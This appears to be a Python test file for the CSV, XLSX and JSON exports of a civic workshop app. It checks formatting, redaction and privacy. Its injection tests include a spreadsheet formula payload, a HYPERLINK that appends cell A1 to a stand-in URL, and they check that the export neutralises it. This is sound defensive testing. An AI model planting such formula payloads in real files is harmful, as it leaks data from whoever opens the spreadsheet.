"""The four formats of a whole evening."""

import csv
import io
import json
import re
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.evening import Evening
from workshop.access import Actor
from workshop.errors import Refusal
from workshop.exports import FORMATS, export, file_name
from workshop.exports.columns import TABLES
from workshop.exports.guard import bare
from workshop.models import Item, Sheet, Step, Table, Workshop


def exported(evening: Evening, form: str, **options: Any) -> bytes:
    with evening.parts.database.read() as db:
        return export(db, evening.workshop, form, keys=evening.parts.keys, **options)[0]


def german(evening: Evening, table: str = "cards", **options: Any) -> list[dict[str, str]]:
    text = exported(evening, "csv", table=table, **options).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def as_json(evening: Evening, **options: Any) -> dict[str, Any]:
    return json.loads(exported(evening, "json", **options))


def test_german_csv_is_what_a_german_excel_opens(evening: Evening) -> None:
    content = exported(evening, "csv")
    assert content.startswith(b'\xef\xbb\xbf"Nr.";"Phase";')
    assert content.endswith(b'"\r\n')
    row = german(evening)[5]
    assert re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d", row["Zeitpunkt"])
    assert (row["Phase"], row["Verspätet"]) == ("Kritik", "nein")


def test_machine_csv_has_codes_and_iso_times(evening: Evening) -> None:
    content = exported(evening, "csv-machine")
    assert content.startswith(b'"number","phase",')
    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", rows[5]["created_at"])
    assert (rows[5]["phase"], rows[5]["late"]) == ("kritik", "false")
    texts = {row["id"]: bare(row["text"]) for row in rows}
    assert texts == {row["id"]: row["text"] for row in as_json(evening)["cards"]}


@pytest.mark.parametrize("form", ["csv", "csv-machine"])
def test_hostile_cards_are_guarded_in_csv(evening: Evening, form: str) -> None:
    delimiter = ";" if form == "csv" else ","
    for table in TABLES:
        content = exported(evening, form, table=table.name).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter):
            assert not [cell for cell in row if cell[:1] in {*"=+-@\t\r\n"}]
    text = exported(evening, form).decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in text


def test_xlsx_holds_typed_text_and_never_a_formula(evening: Evening) -> None:
    book = load_workbook(io.BytesIO(exported(evening, "xlsx")))
    assert book.sheetnames == [table.title for table in TABLES]
    for sheet in book:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    texts = [row[4].value for row in book["Karten"].iter_rows(min_row=2)]
    assert '=HYPERLINK("http://example.invalid/?d="&A1;"Zur Anmeldung")' in texts
    assert texts == [row["text"] for row in as_json(evening)["cards"]]
    assert book["Karten"]["R2"].is_date


def test_xlsx_of_text_that_xml_cannot_hold(fresh: Evening) -> None:
    fresh.do("topic.create", title="a\x0bb\ufffec")
    sheet = load_workbook(io.BytesIO(exported(fresh, "xlsx")))["Themen"]
    assert sheet["A2"].value in ("abc", "a bc")


def test_json_says_which_schema_it_has(evening: Evening) -> None:
    document = as_json(evening)
    assert (document["schema"], document["version"]) == ("miteinander-export", 1)
    assert document["workshop"]["municipality"] == "Pforzheim"
    for table in TABLES:
        assert {tuple(row) for row in document[table.name]} <= {tuple(column.name for column in table.columns)}


def test_hidden_redacted_merged_and_withdrawn_cards(evening: Evening) -> None:
    rows = {row["id"]: row for row in as_json(evening)["cards"]}
    ids = list(evening.cards.values())
    assert rows[ids[0]]["hidden"] == "Ton"
    assert rows[ids[1]]["redacted"] is True
    assert rows[ids[1]]["text"].startswith("█████")
    assert rows[ids[2]]["merged_into"] == rows[ids[3]]["number"]
    evening_german = {row["Kennung"]: row for row in german(evening)}
    assert evening_german[ids[0]]["Ausgeblendet"] == "Ton"
    assert evening_german[ids[1]]["Geschwärzt"] == "ja"


def test_what_its_author_took_back_is_not_exported(fresh: Evening) -> None:
    author = Actor.participant(fresh.people[0])
    step = fresh.steps["cards", "kritik"]
    fresh.do("step.open", step=step)
    card = fresh.do("card.submit", by=author, step=step, text="Doch nicht", lang="de")["id"]
    fresh.do("card.withdraw", by=author, card=card)
    assert as_json(fresh)["cards"] == []


def test_dots_of_phones_and_paper_with_ranks(evening: Evening) -> None:
    rows = as_json(evening)["dots"]
    assert rows[0]["dots"] == 12
    assert all(row["dots"] == row["dots_phones"] + row["dots_paper"] for row in rows)
    assert [row["rank"] for row in rows] == sorted(row["rank"] for row in rows)
    assert [row["dots_paper"] for row in rows].count(4) == 1
    clusters = {row["id"]: row for row in as_json(evening)["clusters"]}
    assert clusters[rows[0]["ref"]]["rank"] == 1


def test_dots_that_are_not_revealed_are_in_no_export(fresh: Evening) -> None:
    step = fresh.steps["cards", "phantasie"]
    fresh.do("step.open", step=step)
    card = fresh.do("card.submit", step=step, text="Nachtbus", lang="de")["id"]
    with fresh.parts.database.read() as db:
        wall = db.get(Step, step).wall_id
    fresh.do("cluster.create", wall=wall, title="Mobil", cards=[card])
    dots = fresh.steps["dots", "phantasie"]
    fresh.do("step.open", step=dots)
    with fresh.parts.database.read() as db:
        item = db.scalar(select(Item.id))
    fresh.do("dot.set", by=Actor.participant(fresh.people[0]), item=item, n=1)
    for kind in ("timer.set", "step.close"):
        fresh.do(kind, **({"step": dots} if kind == "step.close" else {}))
        document = as_json(fresh)
        assert document["dots"] == []
        assert document["clusters"][0]["dots"] is None
    fresh.do("step.reveal", step=dots)
    assert as_json(fresh)["clusters"][0]["dots"] == 1


@pytest.mark.parametrize("form", sorted(FORMATS))
def test_contact_data_only_when_asked_for(evening: Evening, form: str) -> None:
    def holds(content: bytes) -> bool:
        if form != "xlsx":
            return b"person0@example.org" in content
        cells = [
            cell.value for sheet in load_workbook(io.BytesIO(content)) for row in sheet.iter_rows() for cell in row
        ]
        return "person0@example.org" in cells

    tables = [None] if form in ("xlsx", "json") else [table.name for table in TABLES]
    for table in tables:
        assert not holds(exported(evening, form, table=table))
    asked = None if form in ("xlsx", "json") else "contacts"
    assert holds(exported(evening, form, table=asked, contacts=True))


def test_no_export_names_a_participant(evening: Evening) -> None:
    text = exported(evening, "json", contacts=True).decode()
    assert not [person for person in evening.people if person in text]


@pytest.mark.parametrize(("form", "table"), [("pdf", None), ("csv", "contacts"), ("csv", "nix"), ("json", "nix")])
def test_what_does_not_exist_is_refused(evening: Evening, form: str, table: str | None) -> None:
    with pytest.raises(Refusal):
        exported(evening, form, table=table)


def test_an_evening_without_anything_can_be_exported(fresh: Evening) -> None:
    for form in FORMATS:
        assert exported(fresh, form)
    assert german(fresh, "topics") == []


def test_file_names_are_plain(fresh: Evening) -> None:
    fresh.do("workshop.change", title='Große "Frage": Wie/wo? مرحبا')
    with fresh.parts.database.read() as db:
        workshop = db.get(Workshop, fresh.workshop)
        assert file_name(workshop, "csv", "action_items") == "2026-05-21_grosse-frage-wie-wo_massnahmen.csv"
        assert file_name(workshop, "xlsx") == "2026-05-21_grosse-frage-wie-wo.xlsx"


def test_what_a_table_wrote_is_a_row_for_each_field_and_leads_on_to_its_action_item(fresh: Evening) -> None:
    fresh.do("step.open", step=fresh.steps["table_work", "verwirklichung"])
    with fresh.parts.database.read() as db:
        sheet = db.scalar(select(Sheet.id).where(Sheet.workshop_id == fresh.workshop, Sheet.table_no == 2))
        table = db.scalar(select(Table.id).where(Table.workshop_id == fresh.workshop, Table.number == 2))
    fresh.do("table.change", table=table, name="Fensterplatz")
    words = {"first_step": "=Ort fragen", "what": "Leseabende", "who": ""}
    fresh.do("sheet.change", sheet=sheet, fields=words, seeking=True)
    made = fresh.do("action_item.create", sheet=sheet)["id"]
    rows = german(fresh, "sheets")
    assert [(row["Tisch"], row["Name des Tisches"], row["Feld"], row["Text"]) for row in rows] == [
        ("2", "Fensterplatz", "Was", "Leseabende"),
        ("2", "Fensterplatz", "Erster Schritt", "'=Ort fragen"),
    ]
    assert {row["Sucht Verantwortliche"] for row in rows} == {"ja"}
    (item,) = as_json(fresh)["action_items"]
    assert (item["id"], item["sheet"], item["status"]) == (made, sheet, "seeking")


def test_what_people_already_do_is_exported_without_them(fresh: Evening) -> None:
    author, reader = (Actor.participant(person) for person in fresh.people[:2])
    told = {"text": "Ich lese vor", "lang": "tr", "for_whom": "Kinder", "place": "Markt", "languages": ["tr", "de"]}
    made = fresh.do("engagement.submit", by=author, **told, consent=True)["id"]
    fresh.do("engagement.thank", by=reader, engagement=made)
    gone = fresh.do("engagement.submit", by=author, text="Doch nicht", lang="de")["id"]
    fresh.do("engagement.withdraw", by=author, engagement=gone)
    (row,) = german(fresh, "engagements")
    assert (row["Was"], row["Für wen"], row["Wo"]) == ("Ich lese vor", "Kinder", "Markt")
    assert (row["In welchen Sprachen"], row["Dank"], row["Im Verzeichnis"]) == ("Türkçe, Deutsch", "1", "ja")
    (row,) = as_json(fresh)["engagements"]
    assert (row["lang"], row["thanks"], row["directory"], row["hidden"]) == ("tr", 1, True, None)
    assert not [person for person in fresh.people if person in exported(fresh, "json").decode()]
